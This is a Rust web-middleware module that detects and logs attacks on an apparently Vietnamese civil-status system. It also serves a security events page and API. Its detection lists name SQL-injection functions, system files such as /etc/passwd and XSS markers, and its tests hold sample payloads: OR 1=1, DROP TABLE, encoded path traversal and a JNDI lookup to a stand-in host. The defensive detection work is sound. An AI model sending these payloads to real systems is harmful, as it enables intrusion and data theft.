//! Attack detection at the web edge (issue 8): the [`guard`] middleware, the security page
//! `/security` and the API `GET /api/v1/security/events`, `GET /api/v1/security/summary`.
//!
//! [`guard`] runs just inside the edge middleware (so events carry the request id):
//! 1. a source address blocked by `tuphap_domain::security` gets 429 `source_blocked` with
//!    `Retry-After` (the operations endpoints stay reachable);
//! 2. the request line and headers are classified ([`inspect`]): injection and traversal
//!    payloads, malformed percent-encoding, invalid UTF-8, NUL bytes, overlong headers. A hit is
//!    answered 400 `request_rejected` before any handler runs, and recorded as an
//!    `exploitation_attempt` event (counted towards blocking the source). Bodies are not
//!    inspected: forms and JSON are parsed into typed fields and every query is parameterised;
//!    the request line is where scanners probe;
//! 3. after the handler: a 403 to a signed-in caller (a record outside jurisdiction, a role
//!    that may not) is an `unauthorized_access` event `forbidden_record`; a successful `GET` of
//!    a person or a civil-status record counts towards the session's bulk-reading window.

use std::net::SocketAddr;

use askama::Template;
use axum::Json;
use axum::extract::rejection::QueryRejection;
use axum::extract::{ConnectInfo, Query, Request, State};
use axum::http::{HeaderMap, HeaderValue, StatusCode, header};
use axum::middleware::Next;
use axum::response::{IntoResponse, Response};
use serde::Deserialize;
use tuphap_domain::security::{
    NewSecurityEvent, SecurityCategory, SecurityEvent, SecuritySummary, Severity,
};
use tuphap_domain::{Actor, DomainError, ErrorKind};
use utoipa::IntoParams;
use utoipa_axum::router::OpenApiRouter;
use utoipa_axum::routes;

use crate::error::{ApiError, ErrorBody};
use crate::extract::{ApiActor, ApiQuery, SESSION_COOKIE, cookie};
use crate::pages::{Layout, PageActor, error_page};
use crate::state::AppState;

/// Longest header value accepted (bytes).
pub const MAX_HEADER_VALUE: usize = 8 * 1024;

/// What [`inspect`] found in a request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub kind: &'static str,
    pub severity: Severity,
    /// Short Vietnamese description: what and where, never the payload.
    pub detail: String,
}

fn finding(kind: &'static str, severity: Severity, what: &str, place: &str) -> Finding {
    Finding {
        kind,
        severity,
        detail: format!("{what} trong {place}."),
    }
}

/// Percent-decodes `s` (`+` as a space when `plus_space`); `None` on a malformed escape.
fn percent_decode(s: &[u8], plus_space: bool) -> Option<Vec<u8>> {
    let hex = |b: u8| -> Option<u8> {
        match b {
            b'0'..=b'9' => Some(b - b'0'),
            b'a'..=b'f' => Some(b - b'a' + 10),
            b'A'..=b'F' => Some(b - b'A' + 10),
            _ => None,
        }
    };
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        match s[i] {
            b'%' => {
                let hi = s.get(i + 1).copied().and_then(hex)?;
                let lo = s.get(i + 2).copied().and_then(hex)?;
                out.push(hi * 16 + lo);
                i += 3;
            }
            b'+' if plus_space => {
                out.push(b' ');
                i += 1;
            }
            b => {
                out.push(b);
                i += 1;
            }
        }
    }
    Some(out)
}

/// Lowercased, comments `/**/` as spaces, runs of whitespace as one space.
fn normalise(s: &str) -> String {
    let s = s.to_lowercase().replace("/**/", " ");
    let mut out = String::with_capacity(s.len());
    let mut space = false;
    for c in s.chars() {
        if c.is_whitespace() {
            if !space {
                out.push(' ');
            }
            space = true;
        } else {
            out.push(c);
            space = false;
        }
    }
    out
}

/// The word starting at byte `i` of `s` (ASCII letters, digits, `_`).
fn word_at(s: &str, i: usize) -> &str {
    let rest = &s[i..];
    let end = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(rest.len());
    &rest[..end]
}

fn skip_spaces(s: &str, i: usize) -> usize {
    i + s[i..].len() - s[i..].trim_start_matches(' ').len()
}

/// SQL injection in a normalised text: the classic tautologies and stacked statements, UNION
/// SELECT, comment after a quote, and the functions probes use. Quotes, `or` and `=` alone are
/// ordinary text (Vietnamese names and addresses use none of the combinations).
fn sql_injection(t: &str) -> Option<&'static str> {
    const MARKERS: [(&str, &str); 12] = [
        ("information_schema", "information_schema"),
        ("pg_sleep(", "pg_sleep()"),
        ("sleep(", "sleep()"),
        ("benchmark(", "benchmark()"),
        ("waitfor delay", "WAITFOR DELAY"),
        ("xp_cmdshell", "xp_cmdshell"),
        ("load_file(", "load_file()"),
        ("into outfile", "INTO OUTFILE"),
        ("@@version", "@@version"),
        ("sqlite_master", "sqlite_master"),
        ("pg_catalog", "pg_catalog"),
        ("extractvalue(", "extractvalue()"),
    ];
    if let Some((_, name)) = MARKERS.iter().find(|(m, _)| t.contains(m)) {
        return Some(name);
    }
    // UNION [ALL] SELECT
    let mut from = 0;
    while let Some(p) = t[from..].find("union") {
        let i = from + p;
        let before_ok = i == 0 || !t.as_bytes()[i - 1].is_ascii_alphanumeric();
        let mut j = skip_spaces(t, i + 5);
        if word_at(t, j) == "all" || word_at(t, j) == "distinct" {
            j = skip_spaces(t, j + word_at(t, j).len());
        }
        if before_ok && j > i + 5 && word_at(t, j) == "select" {
            return Some("UNION SELECT");
        }
        from = i + 5;
    }
    // A quote closing a literal, then OR/AND, a comment or another statement.
    for (i, c) in t.char_indices() {
        if c != '\'' && c != '"' && c != '`' {
            continue;
        }
        let j = skip_spaces(t, i + 1);
        let rest = &t[j..];
        if rest.starts_with("--") || rest.starts_with('#') || rest.starts_with("/*") {
            return Some("dấu nháy rồi chú thích SQL");
        }
        if rest.starts_with(';') {
            return Some("dấu nháy rồi câu lệnh SQL khác");
        }
        let w = word_at(t, j);
        if (w == "or" || w == "and" || rest.starts_with("||")) && tautology(t, j + w.len().max(2)) {
            return Some("OR 1=1");
        }
    }
    // Without a quote: OR 1=1, OR 'a'='a' after a number.
    let mut from = 0;
    while let Some(p) = t[from..].find(" or ") {
        let i = from + p;
        if tautology(t, i + 3) {
            return Some("OR 1=1");
        }
        from = i + 3;
    }
    // Stacked statements.
    for (i, c) in t.char_indices() {
        if c == ';' {
            let j = skip_spaces(t, i + 1);
            if matches!(
                word_at(t, j),
                "drop"
                    | "delete"
                    | "insert"
                    | "update"
                    | "truncate"
                    | "alter"
                    | "exec"
                    | "shutdown"
                    | "select"
                    | "create"
            ) && t[j..].len() > word_at(t, j).len()
                && t[j + word_at(t, j).len()..].starts_with(' ')
            {
                return Some("câu lệnh SQL nối tiếp");
            }
        }
    }
    None
}

/// Whether `t[i..]` (after OR/AND) reads ` X = X`, ` X like X`, ` true` or ` not false`…
fn tautology(t: &str, i: usize) -> bool {
    let j = skip_spaces(t, i.min(t.len()));
    if j == i && !t[j..].starts_with(['\'', '"', '(']) {
        return false;
    }
    let rest = &t[j..];
    if rest.starts_with("true") || rest.starts_with("not ") {
        return true;
    }
    let operand = |s: &str| -> Option<(String, usize)> {
        let s2 = s.trim_start_matches(['(', ' ']);
        let skipped = s.len() - s2.len();
        if let Some(q) = s2.chars().next().filter(|c| *c == '\'' || *c == '"') {
            // The application's own closing quote ends an unterminated literal.
            return Some(match s2[1..].find(q) {
                Some(end) => (s2[1..1 + end].to_string(), skipped + end + 2),
                None => (s2[1..].to_string(), s.len()),
            });
        }
        let w: String = s2
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect();
        (!w.is_empty()).then(|| (w.clone(), skipped + w.len()))
    };
    let Some((a, n)) = operand(rest) else {
        return false;
    };
    let after = rest[n..].trim_start();
    let (op_len, is_op) =
        if after.starts_with("=") || after.starts_with('<') || after.starts_with('>') {
            (1, true)
        } else if after.starts_with("like ") {
            (4, true)
        } else {
            (0, false)
        };
    if !is_op {
        return false;
    }
    let Some((b, _)) = operand(&after[op_len..]) else {
        return false;
    };
    a == b || (a.bytes().all(|c| c.is_ascii_digit()) && b.bytes().all(|c| c.is_ascii_digit()))
}

/// Path traversal and well-known system files.
fn traversal(t: &str) -> Option<&'static str> {
    if t.contains("../") || t.contains("..\\") || t.ends_with("/..") || t == ".." {
        return Some("chuỗi ../");
    }
    const FILES: [&str; 9] = [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hosts",
        "/proc/self",
        "win.ini",
        "boot.ini",
        "c:\\windows",
        "web-inf/",
        "/.env",
    ];
    FILES
        .iter()
        .any(|f| t.contains(f))
        .then_some("đường dẫn tệp hệ thống")
}

/// Script injection.
fn script_injection(t: &str) -> Option<&'static str> {
    const MARKERS: [&str; 10] = [
        "<script",
        "javascript:",
        "onerror=",
        "onload=",
        "<svg",
        "<iframe",
        "document.cookie",
        "${jndi:",
        "<img src",
        "vbscript:",
    ];
    MARKERS
        .iter()
        .any(|m| t.contains(m))
        .then_some("mã script chèn vào")
}

/// Classifies one decoded text.
fn classify_text(raw: &[u8], place: &str) -> Option<Finding> {
    if raw.contains(&0) {
        return Some(finding("null_byte", Severity::Medium, "Ký tự NUL", place));
    }
    let Ok(text) = std::str::from_utf8(raw) else {
        return Some(finding(
            "malformed_protocol",
            Severity::Low,
            "Chuỗi byte không phải UTF-8 hợp lệ",
            place,
        ));
    };
    let t = normalise(text);
    if let Some(what) = traversal(&t) {
        return Some(finding(
            "path_traversal",
            Severity::Medium,
            &format!("Dấu hiệu truy cập ngoài thư mục ({what})"),
            place,
        ));
    }
    if let Some(what) = sql_injection(&t) {
        return Some(finding(
            "sql_injection",
            Severity::Medium,
            &format!("Mẫu tấn công SQL ({what})"),
            place,
        ));
    }
    if let Some(what) = script_injection(&t) {
        return Some(finding(
            "script_injection",
            Severity::Medium,
            &format!("Dấu hiệu tấn công XSS ({what})"),
            place,
        ));
    }
    None
}

/// Decodes twice (double encoding is a classic evasion) and classifies each layer.
fn classify_encoded(raw: &str, plus_space: bool, place: &str) -> Option<Finding> {
    let Some(once) = percent_decode(raw.as_bytes(), plus_space) else {
        return Some(finding(
            "malformed_protocol",
            Severity::Low,
            "Mã hóa phần trăm (%) sai",
            place,
        ));
    };
    if let Some(f) = classify_text(&once, place) {
        return Some(f);
    }
    if once.contains(&b'%')
        && let Some(twice) = percent_decode(&once, false)
        && twice != once
    {
        return classify_text(&twice, place);
    }
    None
}

/// Classifies a request by its path, query and headers; `None` for an ordinary request.
pub fn inspect(path: &str, query: Option<&str>, headers: &HeaderMap) -> Option<Finding> {
    if let Some(f) = classify_encoded(path, false, "đường dẫn") {
        return Some(f);
    }
    if let Some(q) = query {
        // Each name and value on its own, so `a=1&b=2` is not read as one expression.
        for pair in q.split('&') {
            if let Some(f) = classify_encoded(pair, true, "chuỗi truy vấn") {
                return Some(f);
            }
        }
    }
    for (name, value) in headers {
        if value.len() > MAX_HEADER_VALUE {
            return Some(finding(
                "malformed_protocol",
                Severity::Low,
                &format!(
                    "Tiêu đề {} dài quá {} byte",
                    name.as_str(),
                    MAX_HEADER_VALUE
                ),
                "tiêu đề yêu cầu",
            ));
        }
    }
    for name in [header::USER_AGENT, header::REFERER, header::HOST] {
        for v in headers.get_all(&name) {
            let place = format!("tiêu đề {}", name.as_str());
            if let Some(f) = classify_text(v.as_bytes(), &place) {
                // Referer carries our own (encoded) URLs: only what survives as text counts.
                return Some(f);
            }
        }
    }
    None
}

fn source_of(req: &Request) -> Option<String> {
    req.extensions()
        .get::<ConnectInfo<SocketAddr>>()
        .map(|c| c.0.ip().to_string())
}

/// A key for the caller's credentials (never the token itself), and the token.
fn credentials(headers: &HeaderMap) -> Option<String> {
    headers
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok())
        .and_then(|v| {
            v.strip_prefix("Bearer ")
                .or_else(|| v.strip_prefix("bearer "))
        })
        .map(str::trim)
        .or_else(|| cookie(headers, SESSION_COOKIE))
        .filter(|t| !t.is_empty() && t.len() <= 200)
        .map(str::to_string)
}

fn is_ops(path: &str) -> bool {
    matches!(path, "/healthz" | "/readyz" | "/metrics")
}

/// A `GET` of one person or civil-status record (personal data).
fn personal_read(path: &str) -> bool {
    let rest = path
        .strip_prefix("/api/v1/civil/")
        .or_else(|| path.strip_prefix("/civil/"));
    let Some(rest) = rest else {
        return false;
    };
    let mut parts = rest.split('/');
    matches!(parts.next(), Some("records" | "persons"))
        && parts
            .next()
            .is_some_and(|id| !id.is_empty() && id.bytes().all(|b| b.is_ascii_digit()))
}

fn rejection(path: &str, status: StatusCode, code: &'static str, message: String) -> Response {
    if path.starts_with("/api/") || path.starts_with("/r1/") {
        let kind = if status == StatusCode::TOO_MANY_REQUESTS {
            ErrorKind::TooManyRequests
        } else {
            ErrorKind::BadRequest
        };
        ApiError::new(kind, code, message).into_response()
    } else {
        error_page(&message, status)
    }
}

/// The middleware (see the module documentation).
pub async fn guard(State(state): State<AppState>, req: Request, next: Next) -> Response {
    let path = req.uri().path().to_string();
    let source = source_of(&req);
    if !is_ops(&path)
        && let Some(src) = &source
        && let Some((left, block)) = state.app.security.blocked(src)
    {
        let secs = left.as_secs().max(1);
        let mut resp = rejection(
            &path,
            StatusCode::TOO_MANY_REQUESTS,
            "source_blocked",
            format!(
                "Địa chỉ {src} tạm thời bị chặn do có nhiều yêu cầu bất thường ({}). Vui lòng thử lại sau khoảng {} phút.",
                block.reason.trim_end_matches('.'),
                secs.div_ceil(60)
            ),
        );
        *resp.status_mut() = StatusCode::TOO_MANY_REQUESTS;
        if let Ok(v) = HeaderValue::from_str(&secs.to_string()) {
            resp.headers_mut().insert(header::RETRY_AFTER, v);
        }
        return resp;
    }
    let method = req.method().to_string();
    let request_id = crate::middleware::current_request_id();
    if let Some(f) = inspect(&path, req.uri().query(), req.headers()) {
        let mut e = NewSecurityEvent::new(
            SecurityCategory::ExploitationAttempt,
            f.kind,
            f.severity,
            f.detail,
        )
        .with_request(&method, &path);
        e.source_ip = source.clone();
        e.request_id = request_id;
        if let Err(err) = state.app.record_security_event(e).await {
            tracing::error!(error = %err.message, "cannot record a security event");
        }
        return rejection(
            &path,
            StatusCode::BAD_REQUEST,
            "request_rejected",
            "Yêu cầu bị từ chối vì chứa dữ liệu không hợp lệ hoặc có dấu hiệu tấn công. Nếu bạn cho rằng đây là nhầm lẫn, hãy liên hệ quản trị hệ thống và cung cấp mã yêu cầu.".to_string(),
        );
    }
    let creds = credentials(req.headers());
    let is_get = req.method() == axum::http::Method::GET;
    let resp = next.run(req).await;
    let status = resp.status();
    let watch_forbidden = status == StatusCode::FORBIDDEN && creds.is_some();
    let watch_read = is_get && status == StatusCode::OK && personal_read(&path);
    if !(watch_forbidden || watch_read) {
        return resp;
    }
    let Some(token) = creds else {
        return resp;
    };
    let event = if watch_forbidden {
        Some(NewSecurityEvent::new(
            SecurityCategory::UnauthorizedAccess,
            "forbidden_record",
            Severity::Medium,
            "Truy cập bị từ chối (403): dữ liệu ngoài phạm vi thẩm quyền hoặc vai trò không được phép.",
        ))
    } else {
        let key = tuphap_domain::identity::token_hash(&token);
        state.app.security.note_personal_read(&key).then(|| {
            let p = &state.app.security.policy;
            NewSecurityEvent::new(
                SecurityCategory::Other,
                "bulk_personal_data_read",
                Severity::High,
                format!(
                    "Đọc hàng loạt dữ liệu cá nhân: từ {} lượt xem người/hồ sơ trong {} phút bởi một phiên đăng nhập.",
                    p.bulk_read_threshold,
                    p.bulk_read_window.as_secs().div_ceil(60)
                ),
            )
        })
    };
    if let Some(mut e) = event {
        if let Ok(Some(actor)) = state.app.authenticate(&token).await {
            e = e.with_actor(&actor);
        }
        e = e.with_request(&method, &path);
        e.source_ip = source;
        e.request_id = crate::middleware::current_request_id();
        if let Err(err) = state.app.record_security_event(e).await {
            tracing::error!(error = %err.message, "cannot record a security event");
        }
    }
    resp
}

// ---------------------------------------------------------------------------------------------
// API

pub fn api_router() -> OpenApiRouter<AppState> {
    OpenApiRouter::new()
        .routes(routes!(get_events))
        .routes(routes!(get_summary))
}

#[derive(Debug, Default, Deserialize, IntoParams)]
#[serde(deny_unknown_fields)]
pub struct EventsQuery {
    /// `exploitation_attempt`, `unauthorized_access`, `malware` or `other`.
    #[param(example = "unauthorized_access")]
    pub category: Option<String>,
    /// One source address.
    #[param(example = "203.0.113.7")]
    pub source_ip: Option<String>,
    /// Events with a smaller id (the next page).
    pub before_id: Option<i64>,
    /// At most this many (1–500, default 100).
    pub limit: Option<i64>,
}

#[derive(Debug, Default, Deserialize, IntoParams)]
#[serde(deny_unknown_fields)]
pub struct SummaryQuery {
    /// The period: the last N hours (1–8784, default 24).
    #[param(example = 24)]
    pub hours: Option<i64>,
}

fn category_param(c: Option<&str>) -> Result<Option<SecurityCategory>, ApiError> {
    match c.map(str::trim).filter(|s| !s.is_empty()) {
        None => Ok(None),
        Some(s) => SecurityCategory::parse(s).map(Some).ok_or_else(|| {
            ApiError(
                DomainError::new(
                    ErrorKind::BadRequest,
                    "security_category_invalid",
                    "Nhóm sự kiện không hợp lệ: dùng exploitation_attempt, unauthorized_access, malware hoặc other.",
                )
                .with_field("category"),
            )
        }),
    }
}

/// Security events, newest first (administrators and the ministry).
#[utoipa::path(
    get, path = "/api/v1/security/events", tag = "security",
    params(EventsQuery),
    security(("bearer" = [])),
    responses(
        (status = 200, body = Vec<SecurityEvent>, example = json!([
            {"id": 42, "at": "2026-11-27T13:01:02.5Z", "category": "exploitation_attempt",
             "category_label": "Tấn công khai thác lỗ hổng", "kind": "sql_injection",
             "severity": "medium", "source_ip": "203.0.113.7", "user_id": null, "actor": null,
             "request_id": "5f1c2a9e0b7d4c31", "method": "GET", "path": "/civil/search",
             "detail": "Mẫu tấn công SQL (OR 1=1) trong chuỗi truy vấn."},
            {"id": 41, "at": "2026-11-27T13:00:40Z", "category": "unauthorized_access",
             "category_label": "Truy cập trái phép", "kind": "lockout", "severity": "medium",
             "source_ip": "203.0.113.7", "user_id": 7, "actor": "canbo01", "request_id": null,
             "method": null, "path": null,
             "detail": "Tài khoản bị tạm khóa do đăng nhập sai nhiều lần."}
        ])),
        (status = 400, body = ErrorBody, example = json!({
            "code": "security_category_invalid",
            "message": "Nhóm sự kiện không hợp lệ: dùng exploitation_attempt, unauthorized_access, malware hoặc other.",
            "field": "category", "request_id": "5f1c2a9e0b7d4c31"
        })),
        (status = 401, body = ErrorBody),
        (status = 403, body = ErrorBody, example = json!({
            "code": "forbidden",
            "message": "Tài khoản không có quyền xem sự kiện an ninh (chỉ quản trị viên và Bộ Tư pháp).",
            "field": null, "request_id": "5f1c2a9e0b7d4c31"
        })),
    )
)]
async fn get_events(
    State(state): State<AppState>,
    ApiActor(actor): ApiActor,
    ApiQuery(q): ApiQuery<EventsQuery>,
) -> Result<Json<Vec<SecurityEvent>>, ApiError> {
    let category = category_param(q.category.as_deref())?;
    let source = q
        .source_ip
        .as_deref()
        .map(str::trim)
        .filter(|s| !s.is_empty());
    Ok(Json(
        state
            .app
            .security_events(
                &actor,
                category,
                source,
                q.before_id,
                q.limit.unwrap_or(100),
            )
            .await?,
    ))
}

/// Counts per category and per source over the last hours, the latest events and the sources
/// blocked now (administrators and the ministry).
#[utoipa::path(
    get, path = "/api/v1/security/summary", tag = "security",
    params(SummaryQuery),
    security(("bearer" = [])),
    responses(
        (status = 200, body = SecuritySummary, example = json!({
            "since": "2026-11-26T13:00:00Z",
            "by_category": [
                {"category": "exploitation_attempt", "label": "Tấn công khai thác lỗ hổng", "count": 12},
                {"category": "unauthorized_access", "label": "Truy cập trái phép", "count": 21},
                {"category": "malware", "label": "Mã độc", "count": 0},
                {"category": "other", "label": "Khác", "count": 1}
            ],
            "by_source": [
                {"source_ip": "203.0.113.7", "category": "unauthorized_access", "count": 21}
            ],
            "latest": [],
            "blocked": [
                {"source_ip": "203.0.113.7", "until": "2026-11-27T13:16:02Z",
                 "category": "unauthorized_access",
                 "reason": "Bị chặn tạm thời: 20 lần đăng nhập sai trong 10 phút."}
            ]
        })),
        (status = 401, body = ErrorBody),
        (status = 403, body = ErrorBody),
    )
)]
async fn get_summary(
    State(state): State<AppState>,
    ApiActor(actor): ApiActor,
    ApiQuery(q): ApiQuery<SummaryQuery>,
) -> Result<Json<SecuritySummary>, ApiError> {
    Ok(Json(
        state
            .app
            .security_summary(&actor, q.hours.unwrap_or(24))
            .await?,
    ))
}

// ---------------------------------------------------------------------------------------------
// Page

#[derive(Debug, Default, Deserialize)]
pub struct PageQuery {
    pub hours: Option<String>,
    pub category: Option<String>,
}

pub struct EventRow {
    pub at: String,
    pub category_label: &'static str,
    pub kind: String,
    pub severity_label: &'static str,
    pub severity_class: &'static str,
    pub source: String,
    pub who: String,
    pub where_: String,
    pub detail: String,
}

pub struct CountRow {
    pub label: String,
    pub count: i64,
    pub href: String,
}

pub struct SourceRow {
    pub source: String,
    pub category_label: &'static str,
    pub count: i64,
}

pub struct BlockedRow {
    pub source: String,
    pub until: String,
    pub reason: String,
}

#[derive(Template, askama_web::WebTemplate)]
#[template(path = "security.html")]
pub struct SecurityPage {
    pub l: Layout,
    pub hours: i64,
    pub periods: Vec<(i64, &'static str, bool)>,
    pub category_label: String,
    pub categories: Vec<CountRow>,
    pub sources: Vec<SourceRow>,
    pub events: Vec<EventRow>,
    pub blocked: Vec<BlockedRow>,
}

/// `dd/mm/yyyy HH:MM:SS`, Vietnam time.
fn vn_time(t: time::OffsetDateTime) -> String {
    let t = t.to_offset(tuphap_core::dates::VN_OFFSET);
    format!(
        "{:02}/{:02}/{:04} {:02}:{:02}:{:02}",
        t.day(),
        u8::from(t.month()),
        t.year(),
        t.hour(),
        t.minute(),
        t.second()
    )
}

fn severity_class(s: Severity) -> &'static str {
    match s {
        Severity::Low => "",
        Severity::Medium => "late",
        Severity::High | Severity::Critical => "denied",
    }
}

fn event_row(e: SecurityEvent) -> EventRow {
    EventRow {
        at: vn_time(e.at),
        category_label: e.category.label(),
        kind: e.kind,
        severity_label: e.severity.label(),
        severity_class: severity_class(e.severity),
        source: e.source_ip.unwrap_or_else(|| "—".into()),
        who: e.actor.unwrap_or_else(|| "—".into()),
        where_: match (e.method, e.path) {
            (Some(m), Some(p)) => format!("{m} {p}"),
            (None, Some(p)) => p,
            _ => "—".into(),
        },
        detail: e.detail,
    }
}

/// `/security`: counts per category and per source, the latest events, blocked sources.
pub async fn page(
    State(state): State<AppState>,
    PageActor(actor): PageActor,
    query: Result<Query<PageQuery>, QueryRejection>,
) -> Response {
    if !tuphap_domain::security::may_view(&actor) {
        return error_page(
            &format!(
                "Tài khoản {} (vai trò {}) không có quyền xem sự kiện an ninh: chỉ quản trị viên và cán bộ Bộ Tư pháp.",
                actor.username,
                actor.role.label_vi()
            ),
            StatusCode::FORBIDDEN,
        );
    }
    let q = query.map(|Query(q)| q).unwrap_or_default();
    let hours = q
        .hours
        .as_deref()
        .and_then(|h| h.trim().parse::<i64>().ok())
        .filter(|h| (1..=8784).contains(h))
        .unwrap_or(24);
    let category = q.category.as_deref().and_then(SecurityCategory::parse);
    page_of(&state, &actor, hours, category)
        .await
        .unwrap_or_else(|e| error_page(&e.message, crate::error::status_of(e.kind)))
}

async fn page_of(
    state: &AppState,
    actor: &Actor,
    hours: i64,
    category: Option<SecurityCategory>,
) -> Result<Response, DomainError> {
    let s = state.app.security_summary(actor, hours).await?;
    let latest = match category {
        None => s.latest,
        Some(c) => {
            state
                .app
                .security_events(actor, Some(c), None, None, 50)
                .await?
        }
    };
    let page = SecurityPage {
        l: Layout::for_actor("Sự kiện an ninh", actor, "/security"),
        hours,
        periods: [(24, "24 giờ"), (168, "7 ngày"), (720, "30 ngày")]
            .into_iter()
            .map(|(h, l)| (h, l, h == hours))
            .collect(),
        category_label: category.map(|c| c.label().to_string()).unwrap_or_default(),
        categories: s
            .by_category
            .into_iter()
            .map(|c| CountRow {
                href: format!("/security?hours={hours}&category={}", c.category.as_str()),
                label: c.label,
                count: c.count,
            })
            .collect(),
        sources: s
            .by_source
            .into_iter()
            .map(|r| SourceRow {
                source: r.source_ip,
                category_label: r.category.label(),
                count: r.count,
            })
            .collect(),
        events: latest.into_iter().map(event_row).collect(),
        blocked: s
            .blocked
            .into_iter()
            .map(|b| BlockedRow {
                source: b.source_ip,
                until: vn_time(b.until),
                reason: b.reason,
            })
            .collect(),
    };
    Ok(page.into_response())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn q(query: &str) -> Option<Finding> {
        inspect("/civil/search", Some(query), &HeaderMap::new())
    }

    #[test]
    fn attacks_are_found() {
        for attack in [
            "q=%27%20OR%201%3D1%20--",
            "q=' OR 1=1 --",
            "q=x'+or+'a'='a",
            "id=1+UNION+SELECT+password+FROM+users",
            "id=1/**/union/**/all/**/select/**/1",
            "q=1;DROP TABLE users",
            "q=a'; drop table x",
            "file=../../etc/passwd",
            "file=%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "file=%252e%252e%252fetc",
            "q=<script>alert(1)</script>",
            "q=%3Cscript%3E",
            "q=abc%00",
            "q=%zz",
            "q=%c0%ae%c0%ae%2f",
            "q=1 or 1=1",
            "q=sleep(5)",
        ] {
            assert!(q(attack).is_some(), "not found: {attack}");
        }
        assert!(inspect("/static/..%2f..%2fetc/passwd", None, &HeaderMap::new()).is_some());
        assert!(inspect("/etc/passwd", None, &HeaderMap::new()).is_some());
        let mut h = HeaderMap::new();
        h.insert(
            header::USER_AGENT,
            HeaderValue::from_static("${jndi:ldap://x/a}"),
        );
        assert!(inspect("/", None, &h).is_some());
        let mut h = HeaderMap::new();
        h.insert("x-big", HeaderValue::from_str(&"a".repeat(9000)).unwrap());
        assert!(inspect("/", None, &h).is_some());
    }

    #[test]
    fn ordinary_requests_pass() {
        for ok in [
            "q=Nguy%E1%BB%85n+V%C4%83n+An",
            "q=Nguyễn Văn An",
            "q=Trần Thị Ánh Nguyệt, xã Đông Anh",
            "q=O'Brien",
            "q=l'Oréal",
            "name=Hồ Chí Minh&from=2026-01-01&to=2026-11-30",
            "next=%2Fcivil%2Frecords%2F12",
            "before_seq=120&target_type=user&target_id=admin",
            "q=or",
            "q=1=1",
            "q=union",
            "q=số 12, ngõ 3; phường Hoàn Kiếm",
            "q=Select Nguyễn",
            "note=50%25",
            "q=a--b",
        ] {
            assert_eq!(q(ok), None, "false positive: {ok}");
        }
        assert_eq!(inspect("/civil/persons/12", None, &HeaderMap::new()), None);
        assert_eq!(
            inspect("/static/app.css", Some("v=abc123"), &HeaderMap::new()),
            None
        );
        assert_eq!(
            inspect(
                "/r1/VN/GOV/BTP/TUPHAP/civil-status/v1/persons/001203004567",
                None,
                &HeaderMap::new()
            ),
            None
        );
    }
}
